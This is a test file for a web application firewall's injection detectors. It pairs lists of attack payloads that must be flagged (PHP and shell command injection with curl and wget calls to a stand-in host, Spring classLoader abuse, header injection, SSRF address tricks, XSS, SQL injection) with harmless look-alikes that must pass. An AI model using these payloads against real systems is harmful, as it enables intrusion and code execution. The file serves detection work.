// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shells and templates write so.
import { deepStrictEqual } from "node:assert/strict";
import { describe, test } from "node:test";
import { createExaminer, DETECTORS, PLACE_DETECTORS } from "../../src/detect/index.ts";

const examiner = createExaminer(DETECTORS);
/** From this weight on a value is refused at the default paranoia. */
const SURE = 4;

function isSure(value: string): boolean {
  const found = examiner.examine(Buffer.from(value).toString("latin1"));
  return [...found.values()].some(({ weight }) => weight >= SURE);
}

function weightOf(place: string, value: string): number {
  return PLACE_DETECTORS.find(({ name }) => name === place)?.find(value)?.weight ?? 0;
}

/** By what they have in common; the values are of our own making. */
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  "code behind the end of a text or a statement": ["';die(md5('z'));//", "b;exit(sha1(7));#", '";print(system("w"));//', ";echo file_get_contents(join('/',$a))", "x'); return shell_exec('w');//", 'echo passthru("dir");', "exit(phpinfo());"],
  "references to what a request holds": ["$z=&$_POST; 0|$y=$z[a]", "; x|$q=&$_REQUEST;", "$_=&$_GET[0]"],
  "back-ticks in braces and brackets": ["b { $ {`curl http://x.example/a`}}", "9${${print `uname -a`}}", "{${`cat /etc/hosts`}}", "/a/h=gPath[`id > /tmp/z`]/1.ipa", "k=v[`wget http://x.example`]"],
  "words between separators": ["&set&", ";env;", "& dir &", "/dev/null; id; #", "eth0; ls;#"],
  "scripts and classes of Java": ["class.module.classLoader.URLs[0]=0", "class.classLoader.URLs[0]=jar:http://h.example/a.jar!/", "class.classLoader.resources.dirContext.docBase", "class.classLoader.parent.resources", "class.module.classLoader.DefaultAssertionStatus", "=(use x;ReflectUtils.defineClass('t',b))", "var p=new SpelExpressionParser();p.parseExpression(b)", 'load("nashorn:mozilla_compat.js")', "importPackage(Packages.java.io)", '}}}{{async async=false}}{{groovy}}println("id")', "${__fr_locale__=sql('A',DECODE('x'),1,1)}"],
  "a header behind blanks": [" \r\nX-Added-By: z", "  \nX-Added-By: z", " \rX-Added-By: z", "\t\r\nX-Trace-Id: 1", "en \r\nSet-Cookie: a=b", "/home \rX-Added-By: z", "/a?b=c \r\nX-Added-By: z"],
  "a header behind an address that ends in steps up": ["www.example.com/..\r\nown-line:own-line", "www.example.com//..\r\nmy-test: 1", "www.example.com/../\r\nown-line:1", "example.com/%2f..\r\nab-cd:e"],
  "addresses of this host in another spelling": ["http://[::]:3128/", "http://[0000::1]:3128/", "http://[0:0::0:1]:8080/", "http://[0000:0000::0001]/", "http://0x5a5a5a5a7f000001/", "http://0x41414141A9FEA9FE/latest"],
  "style that runs": ['"></b style="a:ex/**/pression(f(1));"', "<y///style=-moz-\\&#x362inding:url(//x.example/a)>", "</i style=behavior:url(#a#b)>", "<z style='-moz-\\62 inding:url(x)'>"],
  "elements and bindings of frameworks": ["<applet/src=http://x.example/a.html>", "<p :=_c.constructor`alert(2)`()>", "<i ng-focus=$event.composedPath()|orderBy:'(y=alert)(2)'>", "<div ng-click=\"(z=confirm)(1)\">", "<b :='_c.constructor(`eval(1)`)()'>"],
  "script that ends a call": ["500); alert(document.cookie);//", "7});prompt(1)//", "'); fetch(x);//", "0]); document.write(1); /*", "/?q=9); eval(name);//"],
  "parts of messages that came as one text": ['<?xml version="1.0" encoding="GB2312"?><P><D format="text">select @@version</D></P>', "<?xml version='1.0'?><a><b>7</b><c>x' or 3=3 -- </c></a>", "callCount=1\npage=/a\nc0-param0=string:7 and ascii((select substring(login,1,1)from member))=65\nbatchId=0", "a=1\nc0-param0=number:7;drop table member", "<?xml version='1.0'?><a>$(wget http://x.example)</a>"],
  "what tells a scanner that its code was run": ["print(md5(77));", "echo md5('abc');", "die(md5(7));", "var_dump(md5(123));", "');die(md5(2));//"],
  "script addresses that take a value apart": ["javascript:var{a:onerror}={a:alert};throw document.cookie", "javascript:let[a]=[alert];a`1`", "javascript%3Aconst%7Bb%3Aonload%7D%3D%7B%7D"],
}; // biome-ignore format: one list each

const HONEST: Readonly<Record<string, readonly string[]>> = {
  "code talked about": ["When does die() differ from exit()?", "Use md5 or sha1, then echo it", "exit code 1; see the log", "the class loader of a module", "In Groovy, this.class.classLoader.getResource('a.txt') finds it", "Foo.class.classLoader is null for the platform's own classes", "print `name` in bold", "echo the words of file_get_contents", "die Straße; das Haus", "Groovy is a language {{groovy-lang}}", "wget and curl", "[`npm install`](https://example.com)", "see [`git add -p`](x)"],
  "separators between words": ["salt & pepper", "R&D & IT", "a; b; #1", "set & match", "Tom & Jerry; cat & mouse", "item; date; #42", "R&B"],
  "lines of a text": ["Hello \r\nx-ray: at 9", "and/or\nre-check: b", "Hello \nx-ray: tomorrow at 9", "see www.example.com/\nopen-hours: 9-17", "shopping list \r\n- milk", "name\nsub-title: b", "Dear all, \r\nSee you"],
  addresses: ["http://[2001:db8::1]:8080/", "http://localhost:8080/", "https://example.com/0x41", "https://example.com/a/../b"],
  "pages and styles": ['<p style="color: red; -moz-user-select: none">x</p>', "</b >", '<a :href="url">x</a>', '<li :key="item.id">x</li>', '<input ng-model="a.b" ng-change="save()">', "an expression; a binding"],
  "messages that came as one text": ['<?xml version="1.0"?><note><to>Kim</to><body>Don\'t forget the meeting; select a room</body></note>', "callCount=1\npage=/erp/list\nc0-scriptName=Orders\nc0-param0=string:O'Brien and sons\nc0-param1=number:7\nbatchId=3", "<?xml version='1.0'?><a>https://example.com/?a=b&amp;c=d</a>", "notes\nc0-param is a name"],
  "mathematics and sentences": ["(see 5); alert the team // thanks", "f(x); g(x)", "[1]; print it", "call 500); thanks", "she waved :) // and left"],
}; // biome-ignore format: one list each

describe("The firewall, in what is injected,", () => {
  for (const [what, values] of Object.entries(ATTACKS))
    test(`is sure of ${what}`, () => deepStrictEqual(values.filter((value) => !isSure(value)), [])); // biome-ignore format: one line
  for (const [what, values] of Object.entries(HONEST)) test(`lets ${what} pass`, () => deepStrictEqual(values.filter(isSure), []));

  test("knows programs and logs by their path", () => {
    const probes = ["/scripts/cmd.exe", "/cgi-bin/root.exe", "/old/logs/access_log", "/usr/local/apache/logs/error_log", "/x/httpd.conf"];
    deepStrictEqual(probes.filter((path) => weightOf("probe", path) < SURE), []); // biome-ignore format: one line
    const pages = ["/docs/access-log", "/error_logging", "/cmd.executive", "/root.example"];
    deepStrictEqual(pages.filter((path) => weightOf("probe", path) >= SURE), []); // biome-ignore format: one line
  });

  test("knows page code in a file, whatever it is called", () => {
    const files = ['<%out.print("7");%>', "<%Response.Write(7)%>", "<%eval(Request(1))%>", "text <% out.print(1) %>"];
    deepStrictEqual(files.filter((file) => weightOf("upload", file) < SURE), []); // biome-ignore format: one line
    const texts = ["90<%of the people", "<%= name %>", "a <%b%> c"];
    deepStrictEqual(texts.filter((file) => weightOf("upload", file) >= SURE), []); // biome-ignore format: one line
  });
});
